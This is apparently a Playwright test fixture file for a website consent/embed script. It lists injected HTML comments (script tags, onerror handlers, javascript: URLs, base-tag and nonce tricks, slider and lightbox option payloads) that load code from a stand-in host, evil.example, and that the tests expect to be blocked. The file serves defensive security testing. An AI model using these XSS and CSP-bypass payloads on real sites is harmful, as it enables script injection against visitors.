import type { Page } from '@playwright/test';
import { map } from '../sections/map/on-page.js';
import { categoryGallery } from '../support/galleries.js';
import { id } from '../support/services/outside.js';

/** The nonce of the site's own scripts. */
export const nonce = 'r4nd0m';

export const evil = 'https://evil.example/code.js';
const run = 'top.executed = (top.executed ?? 0) + 1';
const key = 'data-maps-key="key-1"';
export const json = (given: object, attributes = ''): string =>
  `<script type="application/json" data-auftritt ${attributes}>${JSON.stringify(given)}</script>`;
export const held = (attributes: string, code = ''): string =>
  `<script type="text/plain" data-name="cms" ${attributes}>${code}</script>`;
const handler = `<img src="x" onerror="${run}">`;
const quoted = (html: string): string => html.replaceAll('&', '&amp;').replaceAll("'", '&#39;');
const item = (attributes: string): string =>
  `<a data-fancybox="g" class="press" ${attributes}>x</a>`;
export const scripts = `<script>${run}</script><script src="${evil}"></script>${handler}`;
const hiddenPart = `<div id="part">${scripts}part</div>`;
const slides = (content: string, options = '{}'): string =>
  `<div data-slider='${quoted(options)}'>${`<div>${content}</div>`.repeat(3)}</div>`;
const coverflow = (content: string): string =>
  `<div class="coverflow"><ul>${`<li data-flip-category='${quoted(handler)}'><img src="/media/logo.svg" alt=""><div class="flip-title">t</div><div class="text">${content}</div><a class="link" href="javascript:${run}">x</a></li>`.repeat(3)}</ul></div>
  <div class="coverflow-detail"><div class="coverflow-detail__text"></div><a class="coverflow-detail__more press" href="/">x</a></div>`;

/** What a visitor has written, and what happens then. */
export interface Comment {
  readonly html: string;
  /** Attributes of the site's own tag. */
  readonly tag?: string;
  /** What stands in the head, before everything. */
  readonly head?: string;
  /** Whether the site's own tag comes after the comment. */
  readonly late?: boolean;
  /** Whether a script of the site brings its own tag, which has no nonce then. */
  readonly brought?: boolean;
  /** What a script of the site or the visitor does then. */
  act?(page: Page): Promise<unknown>;
}

/** A script of the site puts HTML of the visitor's into the page, as it may: `innerHTML` runs no scripts. */
const bring = (selector: string, html: string) => (page: Page) =>
  page.evaluate(
    ([within, text]) => {
      const place = document.querySelector(within);
      const trust = Reflect.get(window, 'trust');
      if (place) place.innerHTML = trust ? trust.createHTML(text) : text;
    },
    [selector, html] as const,
  );

const press = (page: Page): Promise<unknown> =>
  page.locator('.press').first().dispatchEvent('click');
const showLightbox = async (page: Page): Promise<unknown> => {
  await press(page);
  return page.locator('dialog[open]').waitFor();
};
const narrow = (page: Page): Promise<unknown> => page.setViewportSize({ width: 500, height: 800 });

const oldJQuery = `<script nonce="${nonce}" src="/vendor/jquery-1/dist/jquery.js"></script>`;
/** Options of a slider that changes at a breakpoint. */
const columns = '{"responsive":[{"breakpoint":800,"settings":{"slidesToShow":2}}]}';
/** Brings scripts into a slide, and lets the slider begin anew in a narrow window. */
async function beginAnew(page: Page): Promise<void> {
  await bring('.slick-slide:not(.slick-cloned) .late', scripts)(page);
  await narrow(page);
  await page.evaluate(() => window.auftritt?.release());
}

/**
 * What a visitor of a strict page may have written into a comment: each line is tried on a page of its own. None
 * may run, or load code from elsewhere, by the nonce, the policy or an address that the page has given to the script.
 */
export const comments: Readonly<Record<string, Comment>> = {
  'held scripts of every kind': {
    html: `${held('', run)}${held(`data-src="${evil}"`)}
      <script type="x" data-name="cms" data-src="${evil}"></script><script data-name="cms" data-src="${evil}"></script>
      ${held('data-type="module"', run)}${held(`data-type="module" data-src="${evil}"`)}
      ${held('data-type="importmap"', `{"imports":{"x":"${evil}"}}`)}
      ${held('data-type="speculationrules"', `{"prefetch":[{"urls":["${evil}"]}]}`)}
      <svg>${held(`data-href="${evil}"`)}${held('', run)}</svg><template>${scripts}</template>
      <math><mtext>${held(`data-src="${evil}"`)}</mtext></math>
      <svg><foreignObject>${held('', run)}</foreignObject><script type="text/plain" data-name="cms" data-src="${evil}" /></svg>`,
  },
  'a held script with a nonce of its own making': {
    html: held('nonce="guess"', run) + held(`nonce="guess" data-src="${evil}"`),
  },
  "a held script that swallows the site's next one": {
    html: `<script type="text/plain" data-name="cms" data-src="${evil}" data-href='`,
  },
  'a held script that a script brings': {
    html: '<p id="late"></p>',
    tag: 'data-observe',
    act: bring('#late', held(`data-src="${evil}"`) + held('', run) + scripts),
  },
  'held frames, objects, links': {
    html: `<iframe data-name="cms" data-srcdoc="${quoted(scripts).replaceAll('"', '&quot;')}"></iframe>
      <iframe data-name="cms" data-src="javascript:${run}"></iframe><iframe data-name="cms" data-src="data:text/html,x"></iframe>
      <object data-name="cms" data-src="${evil}"></object><embed data-name="cms" data-src="${evil}">
      <link data-name="cms" data-href="${evil}" rel="modulepreload"><link data-name="cms" data-href="${evil}" rel="preload" as="script">
      <a class="press" data-name="cms" data-href="javascript:${run}">x</a><img data-name="cms" data-src="x" onerror="${run}">
      <svg><use data-name="cms" data-href="data:image/svg+xml,x"></use></svg>`,
    act: press,
  },
  'held content that names what it is not': {
    html: `<object data-name="cms" data-src="javascript:${run}"></object><embed data-name="cms" data-src="data:text/html,x">
      <portal data-name="cms" data-src="${evil}"></portal><p data-name="cms" data-src="${evil}" data-srcdoc="&lt;script&gt;">x</p>
      <style data-name="cms" data-css="&lt;/style&gt;&lt;script src=${evil}&gt;&lt;/script&gt;"></style>
      <div data-name="cms" data-background="x&quot;);}</style><script>${run}</script>">x</div>
      <link data-name="cms" data-href="${evil}" rel="x preload" as="script"><link data-name="cms" data-href="${evil}" rel="MODULEPRELOAD">
      <a data-fancybox class="press" data-name="cms" data-src="javascript:${run}" data-type="iframe">x</a>`,
    act: press,
  },
  'a held base': {
    html: `<base data-name="cms" data-href="https://evil.example/">${map}`,
    tag: `${key} data-maps-src="/code.js"`,
  },
  'a base': {
    html: `<base href="https://evil.example/">${map}`,
    head: held(`nonce="${nonce}" data-src="/code.js"`),
    tag: `${key} data-maps-src="/code.js" data-analytics-id="${id}" data-analytics-src="code.js"`,
  },
  'a base where the tag names a folder': {
    html: `<base href="https://evil.example/">${slides('x')}`,
    tag: 'data-chunks="/assets/chunks/"',
  },
  'a base and JSON with a folder where a script brings the tag': {
    html: `<base href="https://evil.example/">${json({ chunks: 'https://evil.example/x/' })}${slides('x')}`,
    brought: true,
  },
  'JSON with a folder where a script brings the tag': {
    html: json({ chunks: '/uploads/' }) + slides('x'),
    brought: true,
  },
  'a nonce of its own making before the script that brings the tag': {
    html: `<script nonce="guess"></script>${held(`nonce="guess" data-src="${evil}"`)}${json({ 'maps-key': 'k', 'maps-src': evil }, 'nonce="guess"')}${map}`,
    brought: true,
  },
  'JSON with the addresses of services': {
    html: json({ 'maps-src': evil, 'analytics-src': evil, chunks: 'https://evil.example/' }) + map,
    tag: `${key} data-analytics-id="${id}"`,
    late: true,
  },
  'JSON with accounts': {
    html:
      json({
        'maps-key': 'k',
        'maps-src': evil,
        'analytics-id': 'GTM-X',
        'analytics-src': evil,
        'csp-nonce': 'x',
      }) + map,
  },
  'JSON with a nonce of its own making': {
    html: json({ 'maps-key': 'k', 'maps-src': evil, 'csp-nonce': 'x' }, 'nonce="x"') + map,
    late: true,
  },
  'JSON with purposes and selectors': {
    html:
      json({
        purposes: { x: { default: true } },
        selectors: { consentContent: 'i, script', map: 'b' },
      }) +
      `<i data-href="javascript:${run}" data-name="x"></i>${held(`data-src="${evil}"`).replace('cms', 'x')}`,
  },
  'a second tag, and one with a nonce of its own making': {
    html: `<script type="module" src="/assets/auftritt.js" ${key} data-maps-src="${evil}"></script>
      <script nonce="x" src="/auftritt.js" ${key} data-maps-src="${evil}"></script>${map}`,
    late: true,
  },
  'other words': {
    html: `<script type="application/json" data-words>${JSON.stringify({ consent: { title: handler, essential: handler }, lightbox: { close: handler } }).replaceAll('<', '\\u003c')}</script>${item('href="/media/a.jpg"')}`,
    act: showLightbox,
  },
  "the service's own tag, with a callback that is none": {
    html: `<script src="https://maps.googleapis.com/maps/api/js?callback=location"></script><script type="text/plain" data-src="https://evil.example/maps?callback=document.body.innerHTML"></script>${map}`,
    tag: key,
  },
  'a slider': { html: slides(scripts) },
  'a slider with options that are HTML': {
    html: ['asNavFor', 'prevArrow', 'nextArrow', 'appendDots', 'customPaging', 'slide']
      .map((name) => slides('x', JSON.stringify({ [name]: handler + scripts })))
      .join(''),
    tag: 'data-jquery="own" data-preset="slick owl"',
  },
  'a slider on jQuery that begins anew': {
    html: slides('<p class="late">x</p>', columns),
    tag: 'data-jquery="own"',
    act: beginAnew,
  },
  'a coverflow': { html: coverflow(scripts), act: press },
  'a coverflow on jQuery': { html: coverflow(scripts), tag: 'data-jquery="own"', act: press },
  "a slider on the page's old jQuery": {
    html: slides(`<p class="late">x</p>${scripts}`, columns),
    head: oldJQuery,
    act: beginAnew,
  },
  "a coverflow on the page's old jQuery": { html: coverflow(scripts), head: oldJQuery, act: press },
  'a lightbox': {
    html:
      item(
        `data-src="#part" data-caption='${quoted(handler)}' data-options='{"html": "${quoted(handler)}"}'`,
      ) +
      item('data-src="#part" data-type="clone"') +
      item('data-type="html" data-src="<b>x</b>"') +
      item(`data-type="iframe" data-src="javascript:${run}"`) +
      item(`data-type="iframe" data-src="/framed/" srcdoc='${quoted(handler)}'`) +
      hiddenPart,
    act: showLightbox,
  },
  "a lightbox with a page of the site's": {
    html: item('data-src="/framed/" data-type="ajax"'),
    act: showLightbox,
  },
  'a lightbox of PhotoSwipe': {
    html: item(`data-src="#part" data-type="clone" data-caption='${quoted(handler)}'`) + hiddenPart,
    tag: 'data-lightbox="photoswipe"',
    act: showLightbox,
  },
  'the answer to a call': {
    html: categoryGallery,
    async act(page) {
      await page.locator('[data-uid="2"] a').click();
      await page.getByText('answered').waitFor();
    },
  },
};

/** What an answer brings, which nobody wrote for this page. */
export const answer = `<div class="gallery-inner">answered ${scripts}${held('', run)}${held(`data-src="${evil}"`)}
  <iframe srcdoc="x" data-name="cms" data-srcdoc="${quoted(`<script>${run}</script>`)}"></iframe>
  <iframe data-name="cms" data-src="javascript:${run}"></iframe><svg><script href="${evil}"></script></svg></div>
  <div class="reference_content">x</div>`;
